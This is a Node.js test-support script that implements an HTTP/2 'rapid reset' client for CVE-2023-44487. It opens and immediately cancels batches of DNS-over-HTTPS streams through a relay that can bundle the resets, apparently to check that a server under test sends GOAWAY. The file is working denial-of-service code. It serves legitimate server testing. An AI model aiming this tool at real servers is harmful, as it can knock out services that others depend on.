// An HTTP/2 "rapid reset" client (CVE-2023-44487), in its own process: it
// opens DoH streams and cancels each (RST_STREAM CANCEL) right after its
// HEADERS went out, `batch` at a time, until it has sent `total` or the
// server sends GOAWAY. Each stream asks another name (no cache hit, no query
// shared with another). It speaks through a relay in this process: with
// `apart` (https://, HTTP/2 over TLS) the relay passes bytes on as they come
// and the resets reach the server about a millisecond after the HEADERS;
// with `together` (http://, HTTP/2 in clear, prior knowledge) the relay
// reads the frames and holds the client's bytes until every stream of the
// batch has its RST_STREAM, then writes them all at once: HEADERS and resets
// in one read. Prints one JSON line: streams sent, the first GOAWAY code
// (null: none), and whether the connection closed.
//
// node test/support/rapid-reset.mjs URL TOTAL BATCH PREFIX apart|together

import { connect, constants } from 'node:http2';
import { connect as tcpConnect, createServer } from 'node:net';
import { connect as tlsConnect } from 'node:tls';

const [url, totalText, batchText, prefix, mode = 'apart'] = process.argv.slice(2);
const total = Number(totalText);
const batch = Number(batchText);
const { hostname, port } = new URL(url);

/** A DNS query for `name` (type A, RD), base64url as GET ?dns= wants it. */
function dnsQuery(name) {
  const labels = name.split('.').flatMap((l) => [l.length, ...Buffer.from(l)]);
  return Buffer.from([0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]).toString('base64url');
}

// The relay. Client bytes to the server are held while `holding` until `rstWanted` RST_STREAM frames are among them.
const PREFACE = 24;
const RST_STREAM = 3;
let holding = false;
let held = [];
let rstSeen = 0;
let rstWanted = 0;
let release = () => undefined;
let toServer = null;
let pending = Buffer.alloc(0);
let prefaceLeft = mode === 'together' ? PREFACE : 0;
/** Counts RST_STREAM frames in the client's bytes (readable only in clear). */
function scan(chunk) {
  if (mode !== 'together') return;
  pending = Buffer.concat([pending, chunk]);
  const skip = Math.min(prefaceLeft, pending.length);
  pending = pending.subarray(skip);
  prefaceLeft -= skip;
  while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
    if (pending[3] === RST_STREAM) rstSeen++;
    pending = pending.subarray(9 + pending.readUIntBE(0, 3));
  }
}
const relay = createServer((client) => {
  toServer = tcpConnect({ host: hostname, port: Number(port) });
  toServer.setNoDelay(true);
  client.setNoDelay(true);
  client.on('data', (c) => {
    scan(c);
    if (!holding) return void toServer.write(c);
    held.push(c);
    if (rstSeen >= rstWanted) release();
  });
  // The server's last bytes (its GOAWAY) reach the client before the close does.
  toServer.pipe(client);
  for (const s of [client, toServer]) s.on('error', () => undefined);
  client.on('close', () => toServer.destroy());
});
await new Promise((resolve) => relay.listen(0, '127.0.0.1', resolve));
/** Resolves once the held bytes (HEADERS and all their resets) went to the server in one write, or after a second. */
function flushWhenReset(streams) {
  rstWanted = rstSeen + streams;
  return new Promise((resolve) => {
    const done = () => {
      release = () => undefined;
      clearTimeout(timer);
      holding = false;
      if (held.length > 0) toServer.write(Buffer.concat(held));
      held = [];
      resolve();
    };
    const timer = setTimeout(done, 1000);
    release = done;
    if (rstSeen >= rstWanted) done();
  });
}

const at = { host: '127.0.0.1', port: relay.address().port };
const session = connect(url, {
  createConnection: () => (url.startsWith('https:') ? tlsConnect({ ...at, rejectUnauthorized: false, ALPNProtocols: ['h2'], servername: 'dns.aifence.test' }) : tcpConnect(at)),
});
let goaway = null;
let closed = false;
session.on('goaway', (code) => (goaway ??= code));
session.on('error', () => undefined);
session.on('close', () => (closed = true));
await new Promise((resolve) => session.once('connect', resolve).once('close', resolve));

const tick = (ms) => new Promise((resolve) => (ms === 0 ? setImmediate(resolve) : setTimeout(resolve, ms)));
let sent = 0;
while (sent < total && !closed && goaway === null) {
  const streams = [];
  if (mode === 'together') holding = true;
  for (let i = 0; i < batch && sent < total; i++, sent++) {
    try {
      const req = session.request({ ':method': 'GET', ':path': `/dns-query?dns=${dnsQuery(`${prefix}-${sent}.example`)}` });
      req.on('error', () => undefined);
      streams.push(req);
    } catch {
      closed = true; // the session went while sending
      break;
    }
  }
  // The HEADERS frames are written on a later turn of the loop (a reset before that cancels them unsent): then the resets.
  await tick(1);
  const flushed = mode === 'together' ? flushWhenReset(streams.length) : null;
  for (const s of streams) s.close(constants.NGHTTP2_CANCEL);
  await (flushed ?? tick(0));
}
await tick(300);
console.log(JSON.stringify({ sent, goaway, closed }));
session.destroy();
relay.close();
